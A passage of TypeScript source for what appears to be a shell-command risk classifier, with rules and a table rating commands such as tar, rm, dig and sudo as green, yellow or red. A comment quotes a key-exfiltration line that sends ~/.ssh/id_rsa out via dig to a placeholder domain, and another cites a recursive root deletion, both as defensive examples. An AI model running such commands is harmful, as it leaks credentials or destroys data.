  if (read && (read.test(key1) || read.test(key2) || read.test(key3))) return out.green(`${inv.name} ${key1} only reads`);
  if (inv.name === 'gh' || inv.name === 'glab') return cloudRule(inv, out, env);
  out.yellow(`${inv.name} ${key1} installs packages or runs project code`.replace('  ', ' '));
};

const dpkgRule: Rule = (inv, out) => {
  const values = inv.args.map((a) => a.value ?? '');
  if (inv.name === 'dpkg-query' || values.some((v) => /^(-l|-L|-s|-S|-p|-c|-I|--list|--listfiles|--status|--search|--print-avail|--get-selections|--print-architecture|--contents|--info|--audit|--version|--help)$/.test(v))) return out.green(`${inv.name} only reads`);
  out.yellow(`${inv.name} installs or removes packages`);
};

const rpmRule: Rule = (inv, out) => {
  if (inv.args.some((a) => /^(-q\w*|--query|--verify|-V|--version|--help|--showrc)$/.test(a.value ?? ''))) return out.green('rpm only queries');
  out.yellow('rpm installs or removes packages');
};

const pacmanRule: Rule = (inv, out) => {
  if (inv.args.some((a) => /^-(Q\w*|S[sil]\w*|Si|Ss|Sl|F\w*|V|h)$|^--(query|version|help)$/.test(a.value ?? ''))) return out.green(`${inv.name} only queries`);
  out.yellow(`${inv.name} installs or removes packages`);
};

/** Build and test tools: they run project code (scripts, tests, plugins), which can do anything. */
const runsProjectCode: Rule = (inv, out) => out.yellow(`${inv.name} runs project code (builds, tests, scripts)`);

const tarRule: Rule = (inv, out, env) => {
  const args = [...inv.args];
  const first = args[0]?.value;
  if (first !== undefined && /^[a-zA-Z]+$/.test(first)) args[0] = literalArg(`-${first}`);
  const o = parseOptions(args, {
    short: { x: 'extract', c: 'create', t: 'list', r: 'append', u: 'update', f: 'file', C: 'directory', I: 'use-compress-program', F: 'info-script', T: 'files-from', X: 'exclude-from' },
    shortValue: 'fCbHIKLNTVgXF',
    long: { extract: 'extract', get: 'extract', create: 'create', list: 'list', append: 'append', update: 'update', delete: 'delete', file: 'file', directory: 'directory', 'use-compress-program': 'use-compress-program', 'to-command': 'to-command', 'checkpoint-action': 'checkpoint-action', 'info-script': 'info-script', 'new-volume-script': 'info-script', 'rsh-command': 'rsh-command', 'files-from': 'files-from', 'exclude-from': 'exclude-from' },
    longValue: ['file', 'directory', 'use-compress-program', 'to-command', 'checkpoint-action', 'info-script', 'rsh-command', 'files-from', 'exclude-from', 'exclude', 'transform', 'owner', 'group', 'mode', 'format', 'newer', 'after-date', 'strip-components', 'label', 'blocking-factor', 'record-size'],
  });
  out.addFlags(o.display);
  if (o.has('use-compress-program', 'to-command', 'checkpoint-action', 'info-script', 'rsh-command')) out.yellow('tar runs another program');
  const file = o.value('file');
  if (o.has('create', 'append', 'update', 'delete')) {
    if (file && file.value !== '-') checkPath(file, 'write', out, env.paths);
    return out.yellow('tar writes an archive');
  }
  if (o.has('extract')) {
    const dir = o.value('directory') ?? literalArg('.');
    const known = resolveWord(dir.word, env.paths).known.map(unescapeGlob);
    if (known.includes('/')) out.red('tar extracts into /: it can overwrite any system file');
    checkPath(dir, 'write', out, env.paths, { otherwise: `tar extracts files into ${shown(dir)} (it may overwrite files)` });
    return;
  }
  out.green('tar only lists an archive');
};

const unzipRule: Rule = (inv, out, env) => {
  const o = parseOptions(inv.args, { shortValue: 'dxP' });
  if (o.has('-l', '-v', '-t', '-Z', '-z') || (o.has('-p') && !o.has('-d'))) return out.green('unzip only lists or tests');
  const dir = o.value('-d') ?? literalArg('.');
  checkPath(dir, 'write', out, env.paths, { otherwise: `unzip extracts files into ${shown(dir)} (it may overwrite files)` });
};

const compressRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { long: { stdout: 'stdout', 'to-stdout': 'stdout', list: 'list', test: 'test', help: 'help', version: 'version' } });
  if (o.has('-c', 'stdout', '-l', 'list', '-t', 'test', 'help', 'version') || /cat$/.test(inv.name)) return out.green(`${inv.name} only prints`);
  out.yellow(`${inv.name} replaces files with (de)compressed versions`);
};

const sevenZipRule: Rule = (inv, out) => {
  const verb = inv.args[0]?.value;
  if (verb === 'l' || verb === 't' || verb === 'i' || verb === 'h') return out.green(`${inv.name} ${verb} only reads`);
  out.yellow(`${inv.name} writes or extracts archives`);
};

const editorRule: Rule = (inv, out, env) => {
  const files = parseOptions(inv.args, { shortValue: 'cSuiTtw', stopAtOperand: false }).operands.filter((a) => !(a.value ?? '').startsWith('+'));
  const otherwise = `${inv.name} opens ${files.map(shown).join(' ') || 'an editor'}, and can change it`;
  for (const file of files) checkPath(file, 'write', out, env.paths, { otherwise });
  out.yellow(otherwise);
};

const openRule: Rule = (inv, out) => out.yellow(`${inv.name} opens ${inv.args.map(shown).join(' ') || 'something'} in another application`);

// ---------------------------------------------------------------------------------------------
// The rule table

const readOnlyRule: Rule = (inv, out) => out.green(`${inv.name} only reads`);

/**
 * ping, dig, nslookup …: read-only, but what they send reaches the network, so
 * `dig $(cat ~/.ssh/id_rsa | base64).example.com` leaks a key. GREEN only with literal arguments.
 */
const networkReadRule: Rule = (inv, out) => {
  if (inv.args.some((a) => a.value === undefined)) out.yellow(`${inv.name} sends text known only at run time over the network`);
  else out.green(`${inv.name} only reads`);
};

/** set, shopt, ulimit, umask: print without arguments, change the shell otherwise. */
const shellStateRule: Rule = (inv, out) => {
  const listing = inv.args.every((a) => a.value !== undefined && /^(-[apS]|-o|\+o|-p)$/.test(a.value));
  if (listing) out.green(`${inv.name} only prints settings`);
  else out.yellow(`${inv.name} changes how the shell behaves`);
};

/** `$CMD -rf /`: if an unknown command name could be rm, would these arguments be a catastrophe? */
export function rmCatastrophe(args: readonly Arg[], env: RuleEnv): string | undefined {
  const o = parseOptions(args, RM_SPEC);
  if (!o.has('recursive')) return undefined;
  const sim = new Verdict();
  rmRule({ name: 'rm', args: [...args], stdin: { kind: 'terminal' } }, sim, env);
  return sim.level === 'red' ? sim.reason : undefined;
}

const RULE_TABLE: Record<string, Rule> = {
  rm: rmRule,
  ping: networkReadRule,
  ping6: networkReadRule,
  traceroute: networkReadRule,
  tracepath: networkReadRule,
  mtr: networkReadRule,
  dig: networkReadRule,
  nslookup: networkReadRule,
  host: networkReadRule,
  whois: networkReadRule,
  finger: networkReadRule,
  killall: (inv, out) => out.yellow(`${inv.name} stops processes by name`),
  pkill: (inv, out) => out.yellow(`${inv.name} stops processes by name`),
  exit: (inv, out) => out.yellow(`${inv.name} closes the shell`),
  logout: (inv, out) => out.yellow(`${inv.name} closes the shell`),
  set: shellStateRule,
  shopt: shellStateRule,
  ulimit: shellStateRule,
  umask: shellStateRule,
  unlink: deleteRule('unlink'),
  rmdir: deleteRule('rmdir', { short: { p: 'parents', v: 'verbose' }, long: { parents: 'parents', 'ignore-fail-on-non-empty': 'ignore-fail-on-non-empty', verbose: 'verbose' } }),
  shred: deleteRule('shred', { shortValue: 'ns', longValue: ['iterations', 'size', 'random-source', 'remove'] }),
  srm: deleteRule('srm'),
  wipe: deleteRule('wipe'),
  cp: cpRule,
  mv: mvRule,
  install: installRule,
  ln: lnRule,
  tee: teeRule,
  dd: ddRule,
  truncate: truncateRule,
  touch: touchRule,
  mkdir: mkdirRule,
  chmod: permissionRule('changes the permissions of'),
  chown: permissionRule('changes the owner of'),
  chgrp: permissionRule('changes the group of'),
  chattr: permissionRule('changes the attributes of'),
  setfacl: permissionRule('changes the access lists of'),
  rsync: rsyncRule,
  sed: sedRule,
  gsed: sedRule,
  awk: awkRule,
  gawk: awkRule,
  mawk: awkRule,
  nawk: awkRule,
  sort: sortRule,
  uniq: uniqRule,
  xxd: xxdRule,
  iconv: iconvRule,
  base64: base64Rule,
  yq: yqRule,
  find: findRule,
  gfind: findRule,
  date: dateRule,
  hostname: hostnameRule,
  history: historyRule,
  kill: killRule,
  crontab: crontabRule,
  dmesg: dmesgRule,
  mount: mountRule,
  ip: ipRule,
  ifconfig: ifconfigRule,
  journalctl: journalctlRule,
  systemctl: systemctlRule,
  loginctl: ctlRule(true),
  hostnamectl: ctlRule(),
  timedatectl: ctlRule(),
  localectl: ctlRule(),
  resolvectl: ctlRule(),
  networkctl: ctlRule(),
  shutdown: shutdownRule,
  reboot: shutdownRule,
  halt: shutdownRule,
  poweroff: shutdownRule,
  init: initRule,
  telinit: initRule,
  wipefs: diskRule,
  blkdiscard: diskRule,
  mkswap: diskRule,
  mke2fs: diskRule,
  newfs: diskRule,
  fdisk: diskRule,
  sfdisk: diskRule,
  gdisk: diskRule,
  sgdisk: diskRule,
  cfdisk: diskRule,
  parted: diskRule,
  dconf: dconfRule,
  gsettings: gsettingsRule,
  sudo: privilegeRule,
  sudoedit: privilegeRule,
  doas: privilegeRule,
  pkexec: privilegeRule,
  run0: privilegeRule,
  please: privilegeRule,
  su: suRule,
  gosu: switchUserRule,
  'su-exec': switchUserRule,
  runuser: switchUserRule,
  setpriv: switchUserRule,
  env: envRule,
  command: commandRule,
  builtin: commandRule,
  exec: execRule,
  time: timeRule,
  timeout: timeoutRule,
  gtimeout: timeoutRule,
  nice: niceRule,
  ionice: ioniceRule,
  stdbuf: stdbufRule,
  nohup: nohupRule,
  setsid: setsidRule,
  unbuffer: unbufferRule,
  caffeinate: caffeinateRule,
  firejail: firejailRule,
  chroot: chrootRule,
  unshare: unshareRule,
  nsenter: nsenterRule,
  'systemd-run': systemdRunRule,
  busybox: busyboxRule,
  taskset: tasksetRule,
  chrt: chrtRule,
  flock: flockRule,
  script: scriptRule,
  watch: watchRule,
  xargs: xargsRule,
  eval: evalRule,
  at: atRule,
  batch: atRule,
  atq: atRule,
  atrm: atRule,
  source: sourceRule,
  '.': sourceRule,
  alias: aliasRule,
  trap: trapRule,
  ssh: sshRule,
  scp: remoteCopyRule,
  sftp: remoteCopyRule,
  curl: curlRule,
  wget: wgetRule,
  git: gitRule,
  docker: dockerRule,
  podman: dockerRule,
  nerdctl: dockerRule,
  'docker-compose': composeRule,
  'podman-compose': composeRule,
  kubectl: kubectlRule,
  oc: kubectlRule,
  helm: helmRule,
  terraform: terraformRule,
  tofu: terraformRule,
  terragrunt: terraformRule,
  pulumi: pulumiRule,
  aws: cloudRule,
  gcloud: cloudRule,
  az: cloudRule,
  gsutil: cloudRule,
  heroku: cloudRule,
  psql: databaseRule,
  mysql: databaseRule,
  mariadb: databaseRule,
  sqlite3: databaseRule,
  mongo: databaseRule,
  mongosh: databaseRule,
  'redis-cli': databaseRule,
  dropdb: databaseRule,
  dropuser: databaseRule,
  mysqladmin: databaseRule,
  npm: npmRule,
  npx: (inv, out) => out.yellow(`${inv.name} downloads and runs a package`),
  pnpx: (inv, out) => out.yellow(`${inv.name} downloads and runs a package`),
  bunx: (inv, out) => out.yellow(`${inv.name} downloads and runs a package`),
  uvx: (inv, out) => out.yellow(`${inv.name} downloads and runs a package`),
  dpkg: dpkgRule,
  'dpkg-query': dpkgRule,
  rpm: rpmRule,
  pacman: pacmanRule,
  yay: pacmanRule,
  'apt-get': verbRule(/^(check|help|changelog|source --print-uris)$/, 'installs or removes packages'),
  tar: tarRule,
  gtar: tarRule,
  bsdtar: tarRule,
  unzip: unzipRule,
  zip: (inv, out, env) => {
    const archive = parseOptions(inv.args, { shortValue: 'bntiDxO' }).operands[0];
    if (archive) checkPath(archive, 'write', out, env.paths);
    out.yellow('zip writes an archive');
  },
  gzip: compressRule,
  gunzip: compressRule,
  bzip2: compressRule,
  bunzip2: compressRule,
  xz: compressRule,
  unxz: compressRule,
  zstd: compressRule,
  unzstd: compressRule,
  '7z': sevenZipRule,
  '7za': sevenZipRule,
  vi: editorRule,
  vim: editorRule,
  nvim: editorRule,
  view: editorRule,
  nano: editorRule,
  pico: editorRule,
  emacs: editorRule,
  micro: editorRule,
  hx: editorRule,
  helix: editorRule,
  code: editorRule,
  subl: editorRule,
  kate: editorRule,
  gedit: editorRule,
  ed: editorRule,
  open: openRule,
  'xdg-open': openRule,
  gio: openRule,
};

for (const name of Object.keys(PACKAGE_READ)) RULE_TABLE[name] ??= packageRule;
for (const name of ['make', 'gmake', 'cmake', 'ninja', 'meson', 'gradle', 'gradlew', './gradlew', 'mvn', 'mvnw', 'ant', 'bazel', 'tsc', 'jest', 'vitest', 'mocha', 'pytest', 'tox', 'nox', 'eslint', 'prettier', 'black', 'ruff', 'flake8', 'mypy', 'rustc', 'gcc', 'g++', 'clang', 'clang++', 'cc', 'javac', 'java', 'dotnet', 'swift', 'xcodebuild', 'playwright', 'cypress', 'webpack', 'vite', 'rollup', 'esbuild', 'turbo', 'nx', 'lerna', 'deno', 'elixir', 'mix', 'rake', 'bundle', 'composer', 'phpunit', 'rspec']) {
  RULE_TABLE[name] ??= runsProjectCode;
}

export const RULES: Readonly<Record<string, Rule>> = RULE_TABLE;

/** The rule for a command name, or undefined for an unknown command. */
export function ruleFor(name: string): Rule | undefined {
  if (Object.hasOwn(RULES, name)) return RULES[name];
  const alias = interpreterName(name);
  if (alias !== name && Object.hasOwn(RULES, alias)) return RULES[alias];
  if (READ_ONLY.has(name)) return readOnlyRule;
  if (/^mkfs(\.\w+)?$/.test(name) || /^mkfs\w*$/.test(name)) return diskRule;
  if (SHELLS.has(name)) return shellRule;
  if (Object.hasOwn(INTERPRETERS, alias)) return interpreterRule;
  return undefined;
}
